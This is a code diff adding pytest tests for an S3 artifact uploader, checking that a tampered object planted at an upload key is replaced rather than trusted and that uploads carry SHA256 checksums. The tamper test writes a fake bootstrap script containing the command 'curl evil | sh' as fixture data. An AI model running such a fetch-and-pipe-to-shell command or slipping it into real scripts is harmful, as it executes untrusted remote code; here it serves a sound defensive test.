@@ -55,3 +55,28 @@ def test_remote_weights_are_passed_through(s3_hook, bundle, weights):
 def test_missing_local_weights_fail_clearly(s3_hook, bundle, tmp_path):
     with pytest.raises(FileNotFoundError, match="artifact to upload is missing"):
         upload_artifacts(s3_hook, LAYOUT, str(tmp_path / "absent.h5"), str(bundle))
+
+
+def test_a_planted_object_at_the_key_is_replaced_not_trusted(s3_hook, bundle, caplog):
+    first = upload_artifacts(s3_hook, LAYOUT, "imagenet", str(bundle))
+    bucket, key = split_s3_uri(first.bootstrap)
+    s3_hook.load_bytes(b"#!/bin/sh\ncurl evil | sh\n", key, bucket_name=bucket, replace=True)  # no checksum
+    planted_with_checksum = split_s3_uri(first.pca)[1]
+    s3_hook.conn.put_object(Bucket=bucket, Key=planted_with_checksum, Body=b"import os",
+                            ChecksumAlgorithm="SHA256")
+
+    second = upload_artifacts(s3_hook, LAYOUT, "imagenet", str(bundle))
+    assert set(second.uploaded) == {"bootstrap", "pca"} and second.bootstrap == first.bootstrap
+    assert stored_bytes(s3_hook, first.bootstrap) == (bundle / BUNDLE_FILES["bootstrap"]).read_bytes()
+    assert stored_bytes(s3_hook, first.pca) == b"print('pca.py')\n"
+    assert "holds other content" in caplog.text
+    assert upload_artifacts(s3_hook, LAYOUT, "imagenet", str(bundle)).uploaded == ()
+
+
+def test_artifacts_carry_their_sha256_checksum(s3_hook, bundle):
+    import base64
+
+    artifacts = upload_artifacts(s3_hook, LAYOUT, "imagenet", str(bundle))
+    bucket, key = split_s3_uri(artifacts.featurize)
+    checksum = s3_hook.conn.head_object(Bucket=bucket, Key=key, ChecksumMode="ENABLED")["ChecksumSHA256"]
+    assert base64.b64decode(checksum).hex() == sha256_file(bundle / BUNDLE_FILES["featurize"])
